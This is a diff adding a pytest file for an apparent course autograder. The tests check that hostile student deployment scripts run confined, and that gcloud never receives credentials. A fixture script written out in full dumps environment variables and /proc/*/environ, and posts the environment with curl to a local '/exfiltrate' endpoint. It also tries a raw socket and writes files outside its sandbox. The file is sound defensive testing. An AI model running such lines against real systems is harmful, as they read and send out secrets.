@@ -1,0 +1,142 @@
+"""Hostile scripts harm nothing and are graded with a message; gcloud never sees credentials."""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+import sys
+from pathlib import Path
+
+import pytest
+
+from autograder import sandbox
+from autograder.oracle import Oracle
+from tests.autograder.builders import REPO_ROOT, solution_files, template_files
+from tests.autograder.conftest import Grader, failed
+
+SECRET = "grader-secret-4f1d9c"
+
+HOSTILE_SUBMIT = """\
+#!/usr/bin/env bash
+# Tries everything a grader must survive, then "submits" nothing useful.
+echo "owned" > {outside}
+echo "owned" > {repo_file}
+env > "$HOME/env-dump"; cat /proc/$PPID/environ 2>/dev/null | tr '\\0' '\\n'
+cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'
+env
+curl -s http://127.0.0.1:{port}/exfiltrate -d "$(env)"
+/usr/bin/curl -s -m 3 http://127.0.0.1:{port}/direct || true
+python3 -c "import socket; socket.create_connection(('127.0.0.1', {port}), 2)" || true
+exit 0
+"""
+
+LOOPING_DEPLOY = """\
+#!/usr/bin/env bash
+while true; do sleep 0.1; done
+"""
+
+
+@pytest.fixture
+def hostile_files(tmp_path, httpserver):
+    outside = tmp_path / "outside-the-copy.txt"
+    repo_file = REPO_ROOT / "HOSTILE_WAS_HERE"
+    files = solution_files()
+    files["deployment/submit_build_backend_v1.sh"] = HOSTILE_SUBMIT.format(
+        outside=outside, repo_file=repo_file, port=httpserver.port
+    )
+    files["deployment/deploy_frontend_v2.sh"] = LOOPING_DEPLOY
+    return files, outside, repo_file
+
+
+CONFINEMENT = pytest.mark.skipif(
+    not sandbox.available(), reason="confinement needs root and unshare (as in CI)"
+)
+
+
+@CONFINEMENT
+def test_a_hostile_script_harms_nothing_and_is_graded_with_a_message(
+    grader, hostile_files, httpserver, monkeypatch
+):
+    files, outside, repo_file = hostile_files
+    monkeypatch.setenv("GRADER_API_TOKEN", SECRET)
+    results = grader.grade(files, script_timeout=3)
+
+    assert not outside.exists()
+    assert not repo_file.exists()
+    assert httpserver.log == []  # neither the recorded curl nor a raw socket got through
+
+    lost = {k for k, r in failed(results).items() if r.item.points}
+    assert lost == {
+        "Q1.backend_v1.submit_build",
+        "Q6.frontend_v2.deploy_runs",
+        "Q6.frontend_v2.deploy_service",
+        "Q6.frontend_v2.deploy_access",
+        "Q6.frontend_v2.serving_url",
+    }
+    submit = results["Q1.backend_v1.submit_build"].message
+    assert "never submits a build" in submit
+    assert "It also called curl" in submit
+    loop = results["Q6.frontend_v2.deploy_runs"].message
+    assert "did not finish within 3 s" in loop
+    assert results["Q1.backend_v1.submit_runs"].status == "passed"
+    for result in results.values():
+        assert SECRET not in result.message
+
+
+@CONFINEMENT
+def test_a_confined_script_runs_as_nobody_without_network(tmp_path):
+    from autograder.script_runner import run_script
+
+    (tmp_path / "probe.sh").write_text(
+        "id -u\n"
+        "touch /etc/confined-was-here 2>/dev/null && echo wrote-etc\n"
+        "touch /tmp/confined-was-here && echo tmp-is-private\n"
+        "python3 -c \"import socket; socket.create_connection(('1.1.1.1', 53), 2)\" "
+        "2>/dev/null && echo network || echo no-network\n"
+    )
+    run = run_script("probe.sh", tree=tmp_path, cwd=".", isolate=True, timeout=20)
+    assert run.isolated
+    assert run.stdout.split() == ["65534", "tmp-is-private", "no-network"]
+    assert not Path("/etc/confined-was-here").exists()
+    assert not Path("/tmp/confined-was-here").exists()  # its /tmp was a private tmpfs
+
+
+@pytest.mark.gcloud
+def test_the_real_gcloud_never_sees_credentials(tmp_path, monkeypatch):
+    """A spy named gcloud, first on PATH, records what the oracle hands the real one."""
+    spy_log = tmp_path / "spy.log"
+    spy = tmp_path / "bin" / "gcloud"
+    spy.parent.mkdir()
+    spy.write_text(
+        f"#!{sys.executable}\n"
+        "import json, os, sys\n"
+        f"with open({str(spy_log)!r}, 'a') as log:\n"
+        "    log.write(json.dumps({'env': dict(os.environ), 'argv': sys.argv[1:],\n"
+        "        'config': sorted(os.listdir(os.environ.get('CLOUDSDK_CONFIG', '/')))}) + '\\n')\n"
+        "os.execv('/usr/bin/gcloud', ['gcloud', *sys.argv[1:]])\n"
+    )
+    spy.chmod(spy.stat().st_mode | stat.S_IEXEC)
+    credentials = tmp_path / "key.json"
+    credentials.write_text('{"type": "service_account", "private_key": "' + SECRET + '"}')
+    monkeypatch.setenv("PATH", f"{spy.parent}{os.pathsep}{os.environ['PATH']}")
+    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(credentials))
+    monkeypatch.setenv("CLOUDSDK_AUTH_ACCESS_TOKEN_FILE", str(credentials))
+    monkeypatch.setenv("CLOUDSDK_CONFIG", str(tmp_path))
+
+    # Only one finished file, so only its few commands go to gcloud.
+    files = template_files()
+    files["deployment/deploy_backend_v1.sh"] = solution_files()["deployment/deploy_backend_v1.sh"]
+    fresh = Grader(tmp_path / "submissions", {True: Oracle(None, use_gcloud=True)})
+    results = fresh.grade(files, gcloud=True)  # nothing cached: every command reaches gcloud
+    assert results["Q3.backend_v1.deploy_runs"].status == "passed"
+    runs = [json.loads(line) for line in spy_log.read_text().splitlines()]
+    assert runs, "the oracle never ran gcloud"
+    for run in runs:
+        env = run["env"]
+        assert "GOOGLE_APPLICATION_CREDENTIALS" not in env
+        assert "CLOUDSDK_AUTH_ACCESS_TOKEN_FILE" not in env
+        assert env["CLOUDSDK_CONFIG"] != str(tmp_path)
+        assert SECRET not in json.dumps(env)
+        assert not any(name.startswith(("credentials", "access_tokens")) for name in run["config"])
+    assert any(r["argv"][:2] == ["run", "deploy"] for r in runs)
